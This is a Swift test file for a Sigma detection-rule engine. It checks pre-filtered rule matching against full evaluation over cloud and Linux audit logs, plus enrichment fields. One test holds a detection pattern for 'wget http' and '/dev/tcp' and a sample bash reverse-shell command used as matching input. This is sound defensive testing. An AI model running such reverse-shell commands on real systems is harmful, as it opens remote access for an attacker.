// SPDX-License-Identifier: Apache-2.0

import Testing
import TocsinCore
import TocsinSigma
import TocsinSources

/// The pre-filtered rule set against evaluating every rule, on the whole corpus, for raw records
/// and for the Tocsin events the native normalisers make of them.
struct SigmaRuleSetTests {
    static let eventFiles = [
        "events/aws_cloudtrail.jsonl", "events/azure_activitylogs.jsonl", "events/azure_entra.jsonl",
        "events/gcp_audit.jsonl", "events/github_audit.jsonl", "events/kubernetes_audit.jsonl",
        "events/linux.log", "events/okta.jsonl", "events/onelogin.jsonl",
    ]

    /// The native format of each events file (Entra records are audits or sign-ins: the audit normaliser refuses sign-ins; OneLogin has none).
    static let formats: [String: [SourceFormat]] = [
        "events/aws_cloudtrail.jsonl": [.cloudtrail], "events/azure_activitylogs.jsonl": [.azureActivity],
        "events/azure_entra.jsonl": [.azureAudit, .azureSignIn], "events/gcp_audit.jsonl": [.gcpAudit],
        "events/github_audit.jsonl": [.githubAudit], "events/kubernetes_audit.jsonl": [.k8sAudit],
        "events/linux.log": [.syslog], "events/okta.jsonl": [.okta],
    ]

    static func corpusRules() throws -> (rules: [SigmaRule], cases: [SigmaCorpus.Case]) {
        try compiled.get()
    }

    /// Every corpus rule compiled once for all the tests here.
    static let compiled = Result { () throws -> ([SigmaRule], [SigmaCorpus.Case]) in
        let cases = try SigmaCorpus.cases()
        let rules = try cases.map { testCase in try #require(try SigmaCorpus.compile(testCase.rule).rules.first) }
        return (rules, cases)
    }

    @Test("pre-filtered answers equal evaluating every rule (raw records)", arguments: eventFiles)
    func differentialOnRecords(_ file: String) throws {
        let (rules, cases) = try Self.corpusRules()
        let set = SigmaRuleSet(rules: rules)
        #expect(set.alwaysEvaluatedRules.count < rules.count / 2, "most rules should have a pre-filter")
        let context = SigmaMatchContext()
        let records = try SigmaCorpus.records(file)
        var expected: [Int: [Int]] = [:]
        for (index, testCase) in cases.enumerated() where testCase.events == file {
            expected[index] = testCase.matches
        }
        var found: [Int: [Int]] = [:]
        for (line, record) in records.enumerated() {
            let fast = set.matches(record, context: context)
            #expect(fast == set.matchesEvaluatingEveryRule(record), "line \(line + 1)")
            for rule in fast where expected[rule] != nil {
                found[rule, default: []].append(line + 1)
            }
        }
        for (rule, lines) in expected {
            #expect(found[rule, default: []] == lines, "\(cases[rule].rule)")
        }
    }

    @Test("events from the native normalisers reach exactly their rules", arguments: Array(formats.keys.sorted()))
    func differentialOnEvents(_ file: String) throws {
        let (rules, cases) = try Self.corpusRules()
        let set = SigmaRuleSet(rules: rules, mode: .events(.defaults))
        let context = SigmaMatchContext()
        let lines = try SigmaCorpus.text(file).split(separator: "\n")
        var expected: [Int: Set<Int>] = [:]
        for (index, testCase) in cases.enumerated() where testCase.events == file {
            expected[index] = Set(testCase.matches)
        }
        var decoded = 0
        for (offset, line) in lines.enumerated() {
            guard let entry = Self.normalise(Array(line.utf8), formats: Self.formats[file] ?? []) else {
                continue
            }
            decoded += 1
            let document = entry.matchDocument()
            let fast = set.matches(document, context: context)
            #expect(fast == set.matchesEvaluatingEveryRule(document), "line \(offset + 1)")
            for rule in expected.keys {
                let shouldMatch = expected[rule]?.contains(offset + 1) ?? false
                #expect(fast.contains(rule) == shouldMatch, "line \(offset + 1): \(cases[rule].rule)")
            }
            #expect(fast.allSatisfy { expected[$0] != nil }, "line \(offset + 1) matched a rule of another log source")
        }
        #expect(decoded > lines.count / 2, "the normaliser should accept most records of \(file)")
    }

    static func normalise(_ line: [UInt8], formats: [SourceFormat]) -> LogEntry? {
        for format in formats {
            let decoder = SourceDecoder(format: format, referenceMilliseconds: 1_764_547_200_000)
            if let batch = try? decoder.decode(line), let entry = batch.entries.first {
                return entry
            }
        }
        return nil
    }

    @Test func rulesOfUnmappedLogSourcesAreListed() throws {
        let text = SigmaTestSupport.ruleText("s:\n  a: x\ncondition: s", logsource: "product: windows")
        let rule = try #require(SigmaCollection(text: text, file: "w.yml").rules.first)
        let set = SigmaRuleSet(rules: [rule], mode: .events(.defaults))
        #expect(set.unmappedRules == [0])
        #expect(set.matches(try SigmaTestSupport.record(#"{"source":"/x","data":{"a":"x"}}"#)).isEmpty)
    }

    @Test func aCallerMappingSelectsEvents() throws {
        let text = SigmaTestSupport.ruleText("s:\n  a: x\ncondition: s", logsource: "product: windows")
        let rule = try #require(SigmaCollection(text: text, file: "w.yml").rules.first)
        let mapping = SigmaLogSourceMapping.defaults.adding([
            try .init(logSource: SigmaLogSource(product: "windows"), pattern: #"{"source":[{"prefix":"/winlog/"}]}"#)
        ])
        let set = SigmaRuleSet(rules: [rule], mode: .events(mapping))
        #expect(set.unmappedRules.isEmpty)
        #expect(set.matches(try SigmaTestSupport.record(#"{"source":"/winlog/h","data":{"a":"X"}}"#)) == [0])
        #expect(set.matches(try SigmaTestSupport.record(#"{"source":"/other","data":{"a":"x"}}"#)).isEmpty)
    }

    @Test func numericValuesArePreFilteredAsStringsAndNumbers() throws {
        let rule = try SigmaTestSupport.rule("s:\n  code: '403'\ncondition: s")
        let set = SigmaRuleSet(rules: [rule])
        #expect(set.alwaysEvaluatedRules.isEmpty)
        #expect(set.matches(try SigmaTestSupport.record(#"{"code":403}"#)) == [0])
        #expect(set.matches(try SigmaTestSupport.record(#"{"code":"403"}"#)) == [0])
        #expect(set.matches(try SigmaTestSupport.record(#"{"code":403.0}"#)).isEmpty)
        #expect(set.matches(try SigmaTestSupport.record(#"{"code":404}"#)).isEmpty)
    }

    @Test func valuesABooleanOrObjectCouldMatchAreNotPreFiltered() throws {
        let rule = try SigmaTestSupport.rule("s:\n  - flag: 'true'\n  - body|startswith: '{'\ncondition: s")
        let set = SigmaRuleSet(rules: [rule])
        #expect(set.alwaysEvaluatedRules == [0])
        #expect(set.matches(try SigmaTestSupport.record(#"{"flag":true}"#)) == [0])
        #expect(set.matches(try SigmaTestSupport.record(#"{"body":{"a":1}}"#)) == [0])
    }

    @Test func dottedPreFiltersStillMatchARecordThatSpellsTheFieldAsOneMember() throws {
        let rule = try SigmaTestSupport.rule("s:\n  a.b: x\ncondition: s")
        let set = SigmaRuleSet(rules: [rule])
        #expect(set.alwaysEvaluatedRules.isEmpty)
        #expect(set.matches(try SigmaTestSupport.record(#"{"a":{"b":"y"}}"#)).isEmpty)
        #expect(set.matches(try SigmaTestSupport.record(#"{"a.b":"x"}"#)) == [0])
        #expect(set.matches(try SigmaTestSupport.record(#"{"a":{"b":"X"}}"#)) == [0])
    }

    @Test func keywordRulesAreEvaluatedOnlyWhenANeedleOccurs() throws {
        let rule = try SigmaTestSupport.rule("k:\n  - 'wget http*'\n  - '/dev/tcp'\ncondition: k")
        let set = SigmaRuleSet(rules: [rule])
        #expect(set.alwaysEvaluatedRules.isEmpty)
        #expect(set.matches(.string("bash -i >& /DEV/TCP/10.0.0.1/4242")) == [0])
        #expect(set.matches(try SigmaTestSupport.record(#"{"cmd":["x","WGET https://x"]}"#)) == [0])
        #expect(set.matches(try SigmaTestSupport.record(#"{"cmd":"wget ftp://x","wget http":1}"#)).isEmpty)
    }

    @Test func conjunctivePreFiltersStillMatchFieldsInDifferentElementsOfArrayData() throws {
        let text = SigmaTestSupport.ruleText(
            "s:\n  eventSource: cloudtrail.amazonaws.com\n  eventName: StopLogging\ncondition: s",
            logsource: "product: aws\n    service: cloudtrail"
        )
        let rule = try #require(SigmaCollection(text: text, file: "r.yml").rules.first)
        let set = SigmaRuleSet(rules: [rule], mode: .events(.defaults))
        let split =
            #"{"source":"/aws/cloudtrail/1/r","data":[{"eventName":"StopLogging"},{"eventSource":"cloudtrail.amazonaws.com"}]}"#
        #expect(set.matches(try SigmaTestSupport.record(split)) == [0])
        let other =
            #"{"source":"/aws/cloudtrail/1/r","data":{"eventName":"StopLogging","eventSource":"s3.amazonaws.com"}}"#
        #expect(set.matches(try SigmaTestSupport.record(other)).isEmpty)
    }
}

/// `enrichment.…` fields of rules on Tocsin events read the event's enrichment, never the producer's data.
struct SigmaEnrichmentTests {
    static let rule = """
        title: Console login from a Tor exit node by a high-risk user
        id: 6f1c0a52-3d0e-4c1a-9a57-0c3e1d2b7a10
        status: test
        logsource:
          product: aws
          service: cloudtrail
        detection:
          selection:
            eventName: ConsoleLogin
            enrichment.threat_intel.list: tor-exit
            enrichment.identity.risk: high
          condition: selection
        level: high
        """

    static func event(data: String, enrichment: String?) throws -> JSONValue {
        let tail = enrichment.map { #","enrichment":\#($0)"# } ?? ""
        return try SigmaTestSupport.record(#"{"source":"/aws/cloudtrail/123456789012","data":\#(data)\#(tail)}"#)
    }

    static let found =
        #"{"threat_intel":[{"list":"scanners","indicator":"x","type":"ip","value":"x"},{"list":"tor-exit","indicator":"203.0.113.9","type":"ip","value":"203.0.113.9"}],"identity":{"user":"alice","risk":"high"}}"#

    @Test(
        "rules read the event's enrichment under enrichment.",
        arguments: [
            (#"{"eventName":"ConsoleLogin"}"#, found, true),
            (#"{"eventName":"ConsoleLogin"}"#, nil, false),
            (#"{"eventName":"GetObject"}"#, found, false),
            (#"{"eventName":"ConsoleLogin","enrichment":\#(found)}"#, nil, false),
            (#"{"eventName":"ConsoleLogin","enrichment":{"identity":{"risk":"low"}}}"#, found, true),
        ]
    )
    func enrichmentFields(_ data: String, _ enrichment: String?, _ matches: Bool) throws {
        let rule = try #require(SigmaCollection(text: Self.rule, file: "tor.yml").rules.first)
        let set = SigmaRuleSet(rules: [rule], mode: .events(.defaults))
        let document = try Self.event(data: data, enrichment: enrichment)
        #expect(set.matches(document) == (matches ? [0] : []))
        #expect(set.matchesEvaluatingEveryRule(document) == (matches ? [0] : []))
    }

    @Test("the record keeps data as it is when there is no enrichment anywhere")
    func untouched() throws {
        let document = try Self.event(data: #"{"eventName":"ConsoleLogin"}"#, enrichment: nil)
        #expect(SigmaRuleSet.eventRecord(document) == document["data"])
    }
}
